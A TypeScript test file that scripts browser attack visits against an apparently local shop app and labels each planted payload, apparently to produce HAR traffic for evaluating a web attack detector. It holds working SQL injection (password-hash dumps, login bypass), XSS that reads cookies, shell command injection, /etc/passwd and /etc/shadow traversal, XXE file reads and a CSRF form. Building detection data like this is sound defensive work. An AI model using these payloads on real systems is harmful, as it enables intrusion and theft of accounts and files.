import { createServer } from "node:http";
import type { AddressInfo } from "node:net";
import { search, signIn } from "./honest-flows.ts";
import type { Flow, PlantedAttack, Visitor } from "./visitor.ts";

const chrome = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/156.0.0.0 Safari/537.36";

type Class = PlantedAttack["class"];

async function searchFor(v: Visitor, payload: string, kind: Class): Promise<void> {
  v.planted({ class: kind, method: "GET", path: "/search", place: "query", name: "q", payload });
  await v.open("/");
  await search(v, payload);
}

async function fetchManual(v: Visitor, payload: string, encoded = encodeURIComponent(payload)): Promise<void> {
  v.planted({
    class: "path_traversal",
    method: "GET",
    path: "/manuals/download",
    place: "query",
    name: "name",
    payload,
  });
  await v.open("/manuals");
  // The address bar: what the page answers is shown, whatever its type.
  await v.page.goto(`${v.origin}/manuals/download?name=${encoded}`).catch(() => null);
  await v.pause();
}

async function ping(v: Visitor, payload: string): Promise<void> {
  v.planted({
    class: "command_injection",
    method: "POST",
    path: "/partners/ping",
    place: "form",
    name: "host",
    payload,
  });
  await v.open("/partners");
  await v.send({ host: payload });
}

async function importOrder(v: Visitor, payload: string): Promise<void> {
  v.planted({ class: "xxe", method: "POST", path: "/orders/import", place: "xml", name: "", payload });
  await v.open("/orders");
  await v.send({ text: payload });
}

/** A page of another origin that posts the account form, opened in the window of somebody who is signed in. */
async function visitForger(v: Visitor, address: string): Promise<void> {
  const html = `<form id="f" method="post" action="${v.origin}/account"><input name="email" value="${address}"><input name="address" value="PO box 1"></form><script>document.getElementById("f").submit()</script>`;
  const server = createServer((_request, reply) => reply.writeHead(200, { "content-type": "text/html" }).end(html));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  try {
    v.planted({ class: "csrf", method: "POST", path: "/account", place: "request", name: "", payload: "" });
    // Another site to the browser: the shop goes by its address, this page by a name.
    await v.page.goto(`http://localhost:${(server.address() as AddressInfo).port}/win-a-teapot`);
    await v.page.waitForURL(`${v.origin}/account`);
    await v.pause();
  } finally {
    server.closeAllConnections();
    server.close();
  }
}

export const attackFlows: readonly Flow[] = [
  {
    name: "sql-injection",
    file: "attack-sql-injection.har",
    about: "Finds the hole in the search by hand, reads the customers, signs in as the owner",
    address: "192.0.2.66",
    userAgent: chrome,
    async run(v) {
      await v.open("/");
      await search(v, "tea");
      await searchFor(v, "tea' AND 'a'='a", "sql_injection");
      await searchFor(v, "tea%') ORDER BY 7-- ", "sql_injection");
      await searchFor(v, "zzz%') UNION SELECT 1,name,'',1,1,sql FROM sqlite_master-- ", "sql_injection");
      await searchFor(v, "zzz%') UNION SELECT id,name,'x',1,1,password_hash FROM customers-- ", "sql_injection");
      const payload = "admin' -- ";
      v.planted({ class: "sql_injection", method: "POST", path: "/login", place: "form", name: "name", payload });
      await signIn(v, payload, "x");
      await v.open("/orders");
    },
  },
  {
    name: "cross-site-scripting",
    file: "attack-xss.har",
    about: "Reflected in the search, then stored in a comment",
    address: "192.0.2.71",
    userAgent: chrome,
    async run(v) {
      await v.open("/");
      await v.open("/product/6");
      await searchFor(v, "<script>document.title=document.cookie</script>", "xss");
      await searchFor(v, '"><img src=x onerror=alert(document.domain)>', "xss");
      await searchFor(v, "<svg/onload=eval(atob('YWxlcnQoMSk='))>", "xss");
      const payload = "Lovely coffee!<script>fetch('/account').then(r=>r.text()).then(t=>{window.stolen=t})</script>";
      v.planted({ class: "xss", method: "POST", path: "/product/6/comments", place: "form", name: "text", payload });
      await v.open("/product/6");
      await v.send({ author: "barista", text: payload });
    },
  },
  {
    name: "command-injection",
    file: "attack-command-injection.har",
    about: "Runs commands through the partners' ping tool",
    address: "192.0.2.80",
    userAgent: chrome,
    async run(v) {
      await v.open("/");
      await v.open("/partners");
      await v.send({ host: "127.0.0.1" });
      for (const payload of [
        "127.0.0.1; id",
        "127.0.0.1 && uname -s",
        "$(whoami)",
        "127.0.0.1 | head -n 3 /etc/passwd",
        "`sleep 1`",
      ])
        await ping(v, payload);
    },
  },
  {
    name: "file-theft",
    file: "attack-files.har",
    about: "Climbs out of the manuals folder, then reads files through an XML order",
    address: "198.51.100.201",
    userAgent: chrome,
    async run(v) {
      await v.open("/manuals");
      await v.open("/manuals/download?name=returns.txt");
      await fetchManual(v, "../settings.ini");
      await fetchManual(v, "../../../../../../etc/passwd", "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd");
      await fetchManual(v, "/etc/issue");
      await signIn(v, "bjorn", "smörgås!8");
      await importOrder(
        v,
        '<?xml version="1.0"?><!DOCTYPE order [<!ENTITY s SYSTEM "settings.ini">]><order><line product="1" quantity="1"/><note>&s;</note></order>',
      );
      await importOrder(
        v,
        '<!DOCTYPE o [<!ENTITY p SYSTEM "file:///etc/passwd">]><order><line product="1" quantity="1"/><note>&p;</note></order>',
      );
    },
  },
  {
    name: "forged-form",
    file: "attack-csrf.har",
    about: "Somebody signed in opens a page elsewhere, which changes the e-mail address of the account",
    address: "203.0.113.120",
    userAgent: chrome,
    async run(v) {
      await v.open("/");
      await signIn(v, "siobhan", "green-Tea-42");
      await search(v, "teapot");
      await visitForger(v, "collector@evil.example");
      await v.open("/account");
    },
  },
  {
    name: "scanner",
    file: "attack-scanner.har",
    about: "A tool that tries every hole in quick order",
    address: "192.0.2.13",
    userAgent: "sqlmap/1.8.4#stable (https://sqlmap.org)",
    async run(v) {
      const get = (path: string) => v.program.send(path);
      const tryQuery = async (path: string, name: string, payload: string, kind: Class) => {
        v.planted({ class: kind, method: "GET", path, place: "query", name, payload });
        await get(`${path}?${name}=${encodeURIComponent(payload)}`);
      };
      for (const path of ["/robots.txt", "/.git/config", "/admin", "/backup.zip", "/phpinfo.php", "/.env"])
        await get(path);
      for (const n of [1, 2, 3, 4, 5, 6])
        await tryQuery(
          "/api/products",
          "q",
          `1') UNION ALL SELECT ${Array(n).fill("NULL").join(",")}-- -`,
          "sql_injection",
        );
      await tryQuery("/api/products", "q", "1) AND 3158=CAST((SELECT sqlite_version()) AS INT)", "sql_injection");
      await tryQuery(
        "/api/products",
        "category",
        "Tea' AND 2461=LIKE(CHAR(65,66),UPPER(HEX(RANDOMBLOB(100000))))-- x",
        "sql_injection",
      );
      await tryQuery("/search", "q", "<ScRiPt>prompt(9187)</sCrIpT>", "xss");
      await tryQuery("/manuals/download", "name", "....//....//....//etc/passwd", "path_traversal");
      await tryQuery("/manuals/download", "name", "..%2f..%2f..%2f..%2fetc%2fshadow", "path_traversal");
      await tryQuery("/manuals/download", "name", "..\\..\\..\\windows\\win.ini", "path_traversal");
    },
  },
  {
    name: "quiet-thief",
    file: "mixed-afternoon.har",
    about: "An honest-looking visit with one encoded injection in the JSON API",
    address: "203.0.113.180",
    userAgent: chrome,
    async run(v) {
      await v.open("/");
      await v.open("/search?category=Books");
      await v.open("/product/12");
      await search(v, "kochbuch");
      const payload = "' UNION/**/SELECT/**/id,name,email,1,1,password_hash/**/FROM/**/customers--";
      v.planted({
        class: "sql_injection",
        method: "GET",
        path: "/api/products",
        place: "query",
        name: "category",
        payload,
      });
      await v.page.evaluate(
        (url) => fetch(url).then((reply) => reply.status),
        `/api/products?category=${encodeURIComponent(payload)}`,
      );
      await v.pause();
      await v.open("/product/16");
    },
  },
  {
    name: "one-comment",
    file: "mixed-afternoon.har",
    about: "Buys nothing, leaves one comment that runs in other people's browsers",
    address: "198.51.100.33",
    userAgent: chrome,
    async run(v) {
      await v.open("/search?category=Stationery");
      await v.open("/product/18");
      const payload =
        "Smooth paper <details open ontoggle=\"location='/search?q='+encodeURIComponent(document.cookie)\">";
      v.planted({ class: "xss", method: "POST", path: "/product/18/comments", place: "form", name: "text", payload });
      await v.send({ author: "ink&quill", text: payload });
    },
  },
];
